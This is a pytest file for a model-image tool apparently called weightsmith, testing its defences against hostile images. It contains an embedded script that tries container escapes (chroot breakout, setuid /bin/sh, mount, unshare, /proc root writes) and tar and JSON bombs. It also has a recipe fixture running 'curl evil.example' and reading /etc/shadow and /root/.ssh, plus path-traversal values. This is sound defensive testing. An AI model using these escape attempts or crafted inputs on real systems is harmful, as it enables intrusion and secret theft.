"""The attacker made an image that is verified, started, rebased, or built from again."""

from __future__ import annotations

import base64
import json
import os
import socket
import stat
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from weightsmith.checkpoints.folder import left_behind
from weightsmith.commands.rebuild import _with_questions, _write
from weightsmith.commands.verify import _read_layer
from weightsmith.drivers.handover import owned_by
from weightsmith.drivers.ownership import owner_token, private_folder
from weightsmith.drivers.rootfs import RootfsLauncher, StartInfo
from weightsmith.errors import CheckFailed, InputRefused, UsageError
from weightsmith.evaluating import client
from weightsmith.evaluating.client import wait_until_healthy
from weightsmith.evaluating.session import ServerSession, SessionLimits
from weightsmith.oci.attachments import Part
from weightsmith.oci.layers import Layer
from weightsmith.oci.manifests import TITLE
from weightsmith.oci.registry import Registry
from weightsmith.oci.streams import entries
from weightsmith.oci.unpack import unpack
from weightsmith.ports import Endpoint, Silent, StartSpec
from weightsmith.provenance import evidence, signing
from weightsmith.provenance.evidence import EVALUATION_TYPE, Document
from weightsmith.provenance.labels import plan_in
from weightsmith.provenance.roles import ADDED, LAYERS, roles_of
from weightsmith.trees import below, discard, walk

from tests.fakes.deep import NOBODY, closed_folders, nested, somebody_else
from tests.fakes.images import entry, foreign_image, tar_of
from tests.fakes.rebuilding import COMMIT, Scene
from tests.fakes.registry import fake_registry
from tests.fakes.rootfs import copy_python, copy_shell
from tests.fakes.told import Told

# Trees: their depth, and the modes of their folders.


def test_a_layer_of_1500_nested_folders_is_refused(tmp_path: Path) -> None:
    """A layer nests its folders too deep for any program: refused before they are made."""
    deep = entry("/".join(["deep"] * 1500), tarfile.DIRTYPE)
    with pytest.raises(InputRefused, match="nested deeper than 256 folders"):
        unpack(foreign_image(tar_of(deep)), tmp_path / "work" / "root")
    assert not list((tmp_path / "work").iterdir())


def test_folders_nested_through_links_are_refused(tmp_path: Path) -> None:
    """No path of the layer is long, but a link leads to where the last one ended."""
    links = [
        entry(f"link{n}", tarfile.SYMTYPE, to=f"link{n - 1}/" + "a/" * 99) for n in range(1, 9)
    ]
    folders = [entry(f"link{n}/" + "a/" * 99, tarfile.DIRTYPE) for n in range(9)]
    with pytest.raises(InputRefused, match="nested deeper than 256 folders"):
        unpack(foreign_image(tar_of(*links, *folders)), tmp_path / "work" / "root")
    assert not list((tmp_path / "work").iterdir())


def test_a_name_that_no_file_system_holds_is_refused(tmp_path: Path) -> None:
    """A layer has a name of 300 bytes: the image is at fault, not this machine's disk."""
    with pytest.raises(InputRefused, match="longer than"):
        unpack(foreign_image(tar_of(entry("n" * 300))), tmp_path / "work" / "root")


def test_cleaning_gets_through_a_tree_of_any_depth(tmp_path: Path) -> None:
    """A started image nested folders until it was killed: the next job cleans up and runs."""
    left = tmp_path / "jobs" / f"{owner_token()}9.killed"
    left.mkdir(parents=True)
    nested(left, 1500)
    try:
        with private_folder(tmp_path) as folder:
            assert list((tmp_path / "jobs").iterdir()) == [folder]
    finally:
        discard(left)  # else it is pytest that does not get through it


@pytest.mark.root
def test_cleaning_opens_folders_that_are_closed_to_their_owner() -> None:
    """A layer has folders without any right: whoever unpacked them can delete them."""
    with somebody_else() as home:
        closed_folders(home / "tree")
        assert discard(home / "tree") is None
        assert not list(home.iterdir())


def test_cleaning_follows_no_link(tmp_path: Path) -> None:
    """A tree links to folders outside it, which stay as they are."""
    kept = tmp_path / "kept"
    kept.mkdir()
    (kept / "file").write_bytes(b"kept")
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "link").symlink_to(kept)
    (tmp_path / "top").symlink_to(kept)
    assert discard(tree) is None
    assert discard(tmp_path / "top") is None
    assert [path.name for path in tmp_path.iterdir()] == ["kept"]
    assert (kept / "file").read_bytes() == b"kept"


@pytest.mark.root
def test_what_cannot_be_deleted_stops_no_job() -> None:
    """Somebody else's file lies in a killed job's folder: it is passed over."""
    with somebody_else() as home:
        left = home / "jobs" / f"{owner_token()}9.killed"
        (left / "sub").mkdir(parents=True)
        (left / "sub" / "file").write_bytes(b"")
        os.seteuid(0)
        os.chown(left / "sub", 0, 0)
        os.seteuid(NOBODY)
        with private_folder(home) as folder:
            assert folder.is_dir()
        assert (left / "sub" / "file").exists()


@pytest.mark.root
def test_a_deep_output_is_taken_back_from_its_container(tmp_path: Path) -> None:
    """A job's container nests folders in its output: the hand-over reaches the last of them."""
    output = tmp_path / "out"
    output.mkdir()
    nested(output, 1500)
    try:
        with owned_by(output, NOBODY, NOBODY):
            owners = {os.lstat(step.name, dir_fd=step.parent).st_uid for step in walk(output)}
            assert owners == {NOBODY}
    finally:
        discard(output)


def test_an_attached_adapter_has_no_deep_names(tmp_path: Path) -> None:
    """An image attaches an adapter whose file lies in a thousand folders: refused at once."""
    part = replace(Part.of_bytes(b"x", ""), annotations={TITLE: "a/" * 1000 + "x"})
    document = Document(artifact_type="", parts=(part,))
    with pytest.raises(InputRefused, match="an attached adapter has a file"):
        _write(document, tmp_path / "adapter")
    assert not (tmp_path / "adapter").exists()


# Started without a container engine, from its layout

PATIENCE = 120
"""Seconds in which what is sure to come must have come, however busy the machine is."""
ATTACKS = """
import ctypes, json, os, socket, stat, sys, time
victim, host_pid, host_port, host_name = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)

def called(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "")

def written(path):
    with open(path, "a") as file:
        file.write("owned")

def opened(path):  # no more than that: a test that fails must not harm the machine
    open(path, "a").close()

def escape():
    os.mkdir("/tmp/deep"); os.chroot("/tmp/deep")
    for _ in range(64):
        os.chdir("..")
    os.chroot("."); written(victim)

def setuid():
    os.chmod("/bin/sh", 0o4755)

def host_processes():
    own = {"1", str(os.getppid()), str(os.getpid())}
    others = [name for name in os.listdir("/proc") if name.isdecimal() and name not in own]
    if not others:
        raise OSError(0, "")
    return others

def abstract():
    with socket.socket(socket.AF_UNIX) as unix:
        unix.connect("\\0" + host_name)

def devices():
    usual = {"null", "zero", "full", "random", "urandom", "tty", "shm", "pts", "ptmx",
             "fd", "stdin", "stdout", "stderr"}
    if not set(os.listdir("/dev")) - usual:
        raise OSError(0, "")

tries = {
    "write a file of the machine": lambda: written(victim),
    "write it through process 1": lambda: written("/proc/1/root" + victim),
    "write it through its parent": lambda: written(f"/proc/{os.getppid()}/root" + victim),
    "write it through the folder of a process": lambda: written(f"/proc/{host_pid}/root{victim}"),
    "leave the root by chroot": escape,
    "see a device that it has no use for": devices,
    "make a device": lambda: os.mknod("/tmp/device", stat.S_IFCHR | 0o666, os.makedev(1, 3)),
    "make a disk": lambda: os.mknod("/models/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0)),
    "mount": lambda: called(libc.mount(b"proc", b"/tmp", b"proc", 0, None)),
    "make the root writable": lambda: called(libc.mount(None, b"/", None, 32 | 4096, None)),
    "become all-powerful in a namespace": lambda: called(libc.unshare(0x10000000)),
    "leave a program that makes its caller root": setuid,
    "write to its own files": lambda: written("/models/x"),
    "see the machine's processes": host_processes,
    "end one of them": lambda: os.kill(int(host_pid), 0),
    "look into process 1": lambda: os.listdir("/proc/1/fd"),
    "see what process 1 is": lambda: os.readlink("/proc/1/exe"),
    "set the kernel": lambda: opened("/proc/sys/kernel/core_pattern"),
    "set a device": lambda: opened("/sys/kernel/profiling"),
    "become root": lambda: (os.setgroups([]), os.setresuid(0, 0, 0), opened("/proc/1/mem")),
    "reach the internet": lambda: socket.create_connection(("192.0.2.1", 80), 2),
    "reach a service of the machine": lambda: socket.create_connection(
        ("127.0.0.1", int(host_port)), 2),
    "reach it by an abstract name": abstract,
    "name the machine": lambda: socket.sethostname(socket.gethostname()),
}
def succeeds(attempt):  # in a process of its own, so that none helps the next
    child = os.fork()
    if child == 0:
        try:
            attempt()
            os._exit(0)
        finally:
            os._exit(1)
    return os.waitpid(child, 0)[1] == 0

sys.stderr = open("/dev/null", "w")
print("found " + json.dumps([name for name in tries if succeeds(tries[name])]), flush=True)
while True:
    time.sleep(600)
"""


def what_it_found(endpoint: Endpoint) -> list[Any]:
    """Return what the program says that it could do."""
    deadline = time.monotonic() + PATIENCE
    while True:
        for line in endpoint.logs(99).splitlines():
            if line.startswith("found "):
                return list(json.loads(line.removeprefix("found ")))
        assert endpoint.alive(), endpoint.logs(99)
        assert time.monotonic() < deadline, endpoint.logs(99)
        time.sleep(0.05)


@pytest.mark.parametrize("user", ["0", "", "7:8"])
def test_a_program_of_an_image_reaches_nothing_of_the_machine(tmp_path: Path, user: str) -> None:
    """A program tries all that root could do; nothing succeeds, and the report has only that.

    Whoever runs the tests, root or not, and whatever user the image wants to be.
    """
    victim = tmp_path / "victim"
    victim.touch()
    for place in (victim, *victim.parents[:2]):
        place.chmod(0o777)  # only the walls keep it
    roots: list[Path] = []

    def attacker(layout: str, root: Path) -> StartInfo:
        roots.append(root)
        python, env = copy_python(root)
        copy_shell(root)
        argv = (python, "-c", ATTACKS, str(victim), str(os.getpid()))
        port, name = neighbour.getsockname()[1], hidden.getsockname()[1:].decode()
        return StartInfo(argv=(*argv, str(port), name), env=env, user=user)

    launcher = RootfsLauncher(attacker, tmp_path / "cache")
    spec = StartSpec(port=8000, env={}, memory_bytes=1 << 30)
    with (
        socket.create_server(("127.0.0.1", 0)) as neighbour,
        socket.socket(socket.AF_UNIX) as hidden,
    ):
        hidden.bind(f"\0weightsmith-test-{os.getpid()}-{user}")
        hidden.listen()
        with launcher.serve("oci:x", spec) as endpoint:
            if "own processes alone" not in endpoint.confinement:
                pytest.skip("this kernel gives us no namespaces")
            assert what_it_found(endpoint) == []
            said = endpoint.confinement
            bits = [p for p in roots[0].rglob("*") if p.lstat().st_mode & (stat.S_ISUID)]
            assert bits == []
    assert victim.read_text() == ""
    outside = 65532 if os.getuid() == 0 else os.getuid()
    assert said == (
        "user 7:8" if user == "7:8" else f"user 0:0 ({outside} outside)",
        "read-only root",
        "no network",
        "no capabilities",
        "no new privileges",
        "own processes alone",
        "1024 MiB of memory",
    )


STARTED_BY_LESSER_ROOT = """
import sys, time
from pathlib import Path
from tests.fakes.rootfs import copy_shell
from weightsmith.drivers.rootfs import RootfsLauncher, StartInfo
from weightsmith.errors import WeightsmithError
from weightsmith.ports import StartSpec

def image(layout, root):
    copy_shell(root, "head")
    script = "echo hidden > /dev/null; /bin/head -c 9 /dev/urandom | /bin/cat > /dev/full"
    return StartInfo(argv=("/bin/sh", "-c", script + "; echo up; sleep 600"), env={}, user="0")

try:
    with RootfsLauncher(image, Path(sys.argv[1])).serve("oci:x", StartSpec(port=1, env={})) as it:
        print(*it.confinement, sep=", ")
        while it.alive() and "up" not in it.logs(9):
            time.sleep(0.05)
        print(it.logs(9))
except WeightsmithError as error:
    print(error.exit_code, error.message, error.hint)
"""


@pytest.mark.root
@pytest.mark.parametrize(
    ("lacking", "said"),
    [
        # As in a container of Docker's: no namespaces, and no others' rights are needed.
        ("-sys_admin", "user 65532:65532, no capabilities, no new privileges"),
        ("-sys_admin,-setuid", "5 oci:x was not started, since it would not be confined here"),
        ("-sys_admin,-setpcap", "5 oci:x was not started, since it would not be confined here"),
        ("-sys_admin,-sys_chroot", "5 oci:x was not started, since it would not be confined here"),
    ],
)
def test_root_gives_its_rights_away_or_starts_nothing(
    tmp_path: Path, lacking: str, said: str
) -> None:
    """The tests' user is root without all of root's rights: an image must not get the rest."""
    command = ["setpriv", f"--bounding-set={lacking}", "--inh-caps=-all", sys.executable]
    command += ["-c", STARTED_BY_LESSER_ROOT, str(tmp_path)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.stdout.startswith(said), done
    assert ("No space left on device\nup\n" in done.stdout) == said.startswith("user"), done


STARTED_WITHOUT_NAMESPACES = """
import json, os, sys, time
from pathlib import Path
from tests.fakes.rootfs import copy_shell
from weightsmith.drivers import landlock, rootfs
from weightsmith.drivers.enclosing import NotAllowed
from weightsmith.ports import StartSpec

home = Path(sys.argv[1])
(home / "diary").write_text("mine")
os.environ.update(HOME=str(home), SECRET="a token")
us = os.getpid()

def refuse(*_):
    raise NotAllowed("no namespaces", hint="")

def image(layout, root):
    copy_shell(root)
    (root / "tmp").mkdir()
    script = f"cat {home}/diary; echo x > {home}/left; cat /proc/{us}/environ"
    script += "; echo z > $HOME/z; cat $HOME/z; echo up; sleep 600"
    return rootfs.StartInfo(argv=("/bin/sh", "-c", script), env={}, user="0")

rootfs._relayed = refuse
with rootfs.RootfsLauncher(image, home / "cache").serve("oci:x", StartSpec(port=1, env={})) as it:
    while it.alive() and "up" not in it.logs(99):
        time.sleep(0.05)
    print(json.dumps([landlock.abi(), it.confinement, it.logs(99), (home / "left").exists()]))
"""


def test_without_namespaces_a_user_s_own_files_are_kept_from_an_image(tmp_path: Path) -> None:
    """As on machines that refuse them to ordinary users: the program runs as the user."""
    site = Path(pytest.__file__).parents[1]
    root = Path(__file__).parents[2]
    paths = map(str, (root / "toolchain", root, site))
    env = {"PYTHONPATH": ":".join(paths), "PATH": os.environ["PATH"]}
    user = ["setpriv", "--reuid=65532", "--regid=65532", "--clear-groups"]
    prefix = user if os.getuid() == 0 else []
    pythons = (sys.executable, f"/usr/bin/python3.{sys.version_info.minor}")
    probe = ["-c", "import shutil, sys; assert shutil.which(sys.executable)"]
    tried = {p: subprocess.run([*prefix, p, *probe], env=env, check=False) for p in pythons}
    works = [python for python, done in tried.items() if done.returncode == 0]
    if not works:
        pytest.skip("no Python here that another user may run")
    with tempfile.TemporaryDirectory() as home:  # below folders that another user may enter
        if prefix:
            os.chown(home, 65532, 65532)
        command = [*prefix, works[0], "-c", STARTED_WITHOUT_NAMESPACES, home]
        done = subprocess.run(command, env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    landlock, said, log, left = json.loads(done.stdout)
    assert "no new privileges" in said
    assert not {"no network", "read-only root", "own processes alone"} & set(said)
    assert log.endswith("z\nup")
    if landlock:
        assert "none of your files" in said
        assert not left
        assert "mine" not in log
        assert "a token" not in log


def test_an_image_s_variables_rule_nothing_before_its_program(tmp_path: Path) -> None:
    """LD_DEBUG_OUTPUT and its like make a loader write files: this machine's must not see them."""
    folder = tmp_path / "debris"
    folder.mkdir(mode=0o777)
    folder.chmod(0o777)
    ruling = {"LD_DEBUG": "statistics", "LD_DEBUG_OUTPUT": str(folder / "x"), "PYTHONSTARTUP": "/x"}

    def attacker(layout: str, root: Path) -> StartInfo:
        copy_shell(root)
        return StartInfo(argv=("/bin/sh", "-c", "echo up; sleep 600"), env=ruling)

    with RootfsLauncher(attacker, tmp_path / "cache").serve(
        "oci:x", StartSpec(port=1, env={})
    ) as endpoint:
        deadline = time.monotonic() + PATIENCE
        while "up" not in endpoint.logs(99) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert "up" in endpoint.logs(99)
        if "own processes alone" in endpoint.confinement:
            assert list(folder.iterdir()) == []


def test_links_in_an_image_lead_nowhere_on_the_machine(tmp_path: Path) -> None:
    """/dev, /proc, /sys, /tmp and /etc/passwd are links to folders and files of the machine."""
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "passwd").write_text("admin:x:0:0::/:/bin/sh\n")

    def attacker(layout: str, root: Path) -> StartInfo:
        copy_shell(root, "ls")
        for name in ("dev", "proc", "sys", "tmp", "etc"):
            (root / name).symlink_to(theirs)
        script = "ls /dev/null /proc/self/status && echo up; sleep 600"
        return StartInfo(argv=("/bin/sh", "-c", script), env={}, user=wanted)

    launcher = RootfsLauncher(attacker, tmp_path / "cache")
    wanted = "admin"
    with pytest.raises(CheckFailed, match="'admin' is not in its /etc/passwd"):
        launcher.serve("oci:x", StartSpec(port=1, env={})).__enter__()
    wanted = "7:8"
    with launcher.serve("oci:x", StartSpec(port=1, env={})) as endpoint:
        if "own processes alone" in endpoint.confinement:
            deadline = time.monotonic() + PATIENCE
            while "up" not in endpoint.logs(99) and time.monotonic() < deadline:
                time.sleep(0.02)
            assert "up" in endpoint.logs(99)
    assert [path.name for path in theirs.iterdir()] == ["passwd"]


# Servers: answers that never end.


def drips_headers(caller: socket.socket) -> None:
    caller.sendall(b"HTTP/1.1 200 OK\r\nX: ")
    while True:
        caller.sendall(b"x")
        time.sleep(0.02)


def never_ends_its_body(caller: socket.socket) -> None:
    caller.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
    while True:
        caller.sendall(b"x" * 65536)


@contextmanager
def serving(answer: Callable[[socket.socket], None]) -> Iterator[Endpoint]:
    """Answer each connection in a thread of its own until the context ends."""

    def attend(caller: socket.socket) -> None:
        with caller, suppress(OSError):
            caller.recv(65536)
            answer(caller)

    def accept(listener: socket.socket) -> None:
        with suppress(OSError):
            while True:
                caller, _ = listener.accept()
                threading.Thread(target=attend, args=(caller,), daemon=True).start()

    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=accept, args=(listener,), daemon=True).start()
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        yield Endpoint(url=url, logs=lambda _: "", alive=lambda: True)
        listener.shutdown(socket.SHUT_RDWR)


def test_a_server_whose_headers_never_end_is_given_up() -> None:
    """Each byte comes in time and the last never does: the question has one limit for all."""
    limits = SessionLimits(request_seconds=0.5, tries=1)

    with (
        serving(drips_headers) as endpoint,
        ServerSession(endpoint, limits) as session,
        pytest.raises(CheckFailed, match="no answer in"),
    ):
        session.get("/v1/models")


def test_a_server_whose_health_never_comes_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """It drips the headers of its health answer: the wait ends when its time is over."""
    monkeypatch.setattr(client, "_PROBE_SECONDS", 0.2)

    with serving(drips_headers) as endpoint, pytest.raises(CheckFailed, match="not ready"):
        wait_until_healthy(endpoint, "/health", 0.5)


def test_a_server_is_healthy_whatever_its_health_answer_goes_on_to_say() -> None:
    """Its body has no end: the status is what counts, and nobody reads on."""
    with serving(never_ends_its_body) as endpoint:
        assert wait_until_healthy(endpoint, "/health", 60) < 60


# The recipe that an image states, for `build --from`.

HUB = f"hf://a/b@{COMMIT}"


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    with fake_registry() as fake, Registry(pause=lambda _: None) as client:
        yield Scene(fake, client, tmp_path)


def test_a_stated_recipe_names_no_push_target_program_or_file(scene: Scene) -> None:
    """A statement sets what is run, read or pushed here: none of it is taken, all is told."""

    def twist(recipe: dict[str, Any]) -> None:
        recipe["image"] = {"repository": "evil.example/x", "base": "evil.example/engine:1"}
        recipe["evaluate"] |= {
            "metric": "command",
            "command": ["sh", "-c", "curl evil.example"],
            "data": "/etc/passwd",
            "training": "/etc/shadow",
        }
        recipe["adapters"][0] |= {
            "evaluate": {"data": "x", "metric": "command", "command": ["sh"]},
            "source": "/root/.ssh",
            "revision": "main",
        }
        recipe["base"] |= {"source": "hf://evil/base", "revision": "main"}
        recipe["calibration"] = {"data": "/etc/passwd"}
        recipe["validate"] = {"enabled": False, "probes": "/etc/passwd"}
        recipe["quantize"] = {"imatrix": "/etc/passwd"}
        recipe["from_the_future"] = 1

    scene.publish(HUB, "hf://a/b", twist)
    told = Told()
    file = scene.again(progress=told)
    recipe = file.recipe
    assert recipe.image.repository == recipe.image.base == ""
    assert recipe.evaluate is None
    assert [(a.source, a.evaluate) for a in recipe.adapters] == [
        ("./adapters/0", None),
        ("./adapters/1", None),
    ]
    assert (recipe.base.source, recipe.base.revision) == ("hf://a/b", COMMIT)
    assert recipe.calibration is None
    assert recipe.validation.enabled
    assert recipe.quantize.imatrix == ""
    text = (file.folder / "recipe.yaml").read_text()
    assert not any(word in text for word in ("evil", "/etc", "/root", "future"))
    said = "\n".join(told.said)
    for key in ("image", "calibration", "validate", "from_the_future", "adapters[].evaluate"):
        assert key in said


def test_gates_that_a_stated_recipe_opens_are_told(scene: Scene) -> None:
    """A statement turns gates off: its makers may, for the same image, and nobody overlooks it."""

    def twist(recipe: dict[str, Any]) -> None:
        recipe["quality"] = {"gate": False, "limits": {"awq": {"kl_mean": 99}}}

    scene.publish(HUB, "hf://a/b", twist)
    told = Told()
    scene.again(progress=told)
    said = "\n".join(told.said)
    assert "quality.gate: false, quality.limits, evaluate.max_drop: 0.2" in said


@pytest.mark.parametrize(
    "twist",
    [
        lambda recipe: recipe.update(adapters="x"),
        lambda recipe: recipe.update(adapters=[1, 2]),
        lambda recipe: recipe.update(name="../../../root"),
        lambda recipe: recipe.update(version="1/../2"),
        lambda recipe: recipe.update(serve=["x"]),
        lambda recipe: recipe.update(serve={"gpu": {"a": 1}}),
        lambda recipe: recipe.update(quantize=7),
        lambda recipe: recipe.update(targets={"vllm": 1}),
        lambda recipe: recipe.update(merge={"method": "system"}),
        lambda recipe: recipe["adapters"][0].update(weight="much"),
        lambda recipe: recipe["evaluate"].update(max_drop="all"),
    ],
)
def test_a_stated_recipe_of_other_types(scene: Scene, twist: Callable[[Any], None]) -> None:
    """Values of other types, and names that leave their folder: the image is refused, exit 3."""
    scene.publish(HUB, "hf://a/b", twist)
    with pytest.raises(InputRefused, match="recipe"):
        scene.again()


@pytest.mark.parametrize("pin", ["hf://a/b@main", f"hf://a/b@{'g' * 40}", "pypi://a==1", "/etc"])
def test_a_stated_pin_that_is_none(scene: Scene, pin: str) -> None:
    """A base whose pin is no commit and no SHA-256 is asked for, and not fetched."""
    scene.publish(pin, "hf://a/b")
    with pytest.raises(UsageError, match="was a folder"):
        scene.again()


# Layers that unfold, and headers before headers.


def tar_with(*headers: bytes) -> bytes:
    """Return a tar of headers and content as given, which no writer would write."""
    return b"".join(headers) + bytes(1024)


def pax(kind: bytes = tarfile.XHDTYPE, **facts: str) -> bytes:
    """Return an extended header that says these things of the next entry."""
    return tarfile.TarInfo._create_pax_generic_header(facts, kind, "utf-8")  # type: ignore[attr-defined]


def layers_of(data: bytes, packed: bool = False) -> Layer:
    return foreign_image(data, packed=packed).layers[0]


HEADERS = {
    "2,000 extended headers": pax(comment="x") * 2000 + entry("a").tobuf(),
    "2,000 long names": (entry("././@LongLink", tarfile.GNUTYPE_LONGNAME).tobuf()) * 2000,
    "2,000 global headers": pax(tarfile.XGLTYPE, comment="x") * 2000,
    "a size below nothing": pax(size="-1024") + entry("a").tobuf(),
    "an old sparse file of 4 TiB": entry("a", tarfile.GNUTYPE_SPARSE).tobuf(tarfile.GNU_FORMAT),
    "a sparse file of 4 TiB": pax(
        **{"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,0"}
        | {"GNU.sparse.size": str(4 << 40), "GNU.sparse.numblocks": "1"}
    )
    + entry("a").tobuf(),
}


@pytest.mark.parametrize("case", HEADERS)
def test_headers_that_unfold_are_refused(tmp_path: Path, case: str) -> None:
    """Half a kilobyte is a file of terabytes, or a thousand headers stand before one file."""
    layer = tar_with(HEADERS[case])
    with pytest.raises(InputRefused):
        unpack(foreign_image(layer, packed=False), tmp_path / "work" / "root")
    with pytest.raises(InputRefused):
        list(entries(layers_of(layer)))
    fault, _ = _read_layer(layers_of(layer), "x", look_inside=True)
    assert fault, "verify finds it, too"


def test_a_layer_that_unfolds_into_gigabytes_is_refused(tmp_path: Path) -> None:
    """300 kB of gzip hold 300 MB of zeros: refused, and what was written is deleted."""
    layer = tar_of((entry("zeros"), bytes(300 << 20)))
    with pytest.raises(InputRefused, match="unfold"):
        unpack(foreign_image(layer), tmp_path / "work" / "root")
    assert not list((tmp_path / "work").iterdir())


@pytest.mark.parametrize("again", ["models/a", "./models/a", "models/x/../a"])
def test_weights_that_are_there_twice_do_not_verify(again: str) -> None:
    """The layer has a file that is right, and after it another that an engine would read."""
    layer = tar_of((entry("models/a"), b"right"), (entry(again), b"other"))
    fault, _ = _read_layer(layers_of(layer), "x", look_inside=True)
    assert "twice" in fault


# JSON: signatures, statements, labels.

DEEP = b'{"a":' * 50_000 + b"1" + b"}" * 50_000
WRAPPED = base64.b64encode(DEEP)


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        (signing.STATEMENT_TYPE, DEEP),
        (signing.ENVELOPE_TYPE, DEEP),
        (signing.ENVELOPE_TYPE, b'{"payload": "%s", "signatures": []}' % WRAPPED),
        (signing.BUNDLE_TYPE, DEEP),
        (signing.BUNDLE_TYPE, b'{"dsseEnvelope": %s}' % DEEP),
        (signing.BUNDLE_TYPE, b'{"dsseEnvelope": {"payload": "%s"}}' % WRAPPED),
    ],
)
def test_deep_statements_are_refused(kind: str, data: bytes) -> None:
    """A statement, its envelope or what the envelope holds is nested 50,000 deep."""
    with pytest.raises(InputRefused):
        evidence.read_statement(Part.of_bytes(data, kind), lambda *_: True)


def test_a_deep_signature_is_nobodys() -> None:
    """A signature's payload is nested 50,000 deep: it is no signature of this key."""
    notes = {"dev.cosignproject.cosign/signature": "AAAA"}
    part = Part.of_bytes(DEEP, signing.SIMPLE_SIGNING, **notes)
    assert signing.signed_digest(part, lambda *_: True) == ""


def test_deep_labels_say_nothing() -> None:
    """The labels that hold the plan and what was added to the base are nested 50,000 deep."""
    labels = {LAYERS: "base:1", ADDED: DEEP.decode(), "dev.weightsmith.plan": DEEP.decode()}
    image = foreign_image(tar_of((entry("a"), b"")), config={"Labels": labels})
    assert plan_in(image.labels) == {}
    with pytest.raises(InputRefused, match="damaged"):
        roles_of(image, "x")


def test_an_attached_evaluation_of_another_shape_is_left_out(tmp_path: Path) -> None:
    """The questions that an image brings are numbers: the recipe gets none."""
    part = Part.of_bytes(b'{"items": [1, {"prompt": 2}]}', "")
    recipe = {"evaluate": {"data": "x"}}
    _with_questions(
        recipe, [Document(artifact_type=EVALUATION_TYPE, parts=(part,))], tmp_path, Silent()
    )
    assert recipe == {}


def test_a_deep_folder_beside_a_model_is_passed_over(tmp_path: Path) -> None:
    """A downloaded model has a hidden folder as deep as its author likes: it is not read."""
    (tmp_path / "model.safetensors").write_bytes(b"")
    (tmp_path / ".git").mkdir()
    nested(tmp_path / ".git", 1500)
    try:
        assert left_behind(tmp_path) == ""
        assert tmp_path / ".git" / "deep" in below(tmp_path)
    finally:
        discard(tmp_path / ".git")
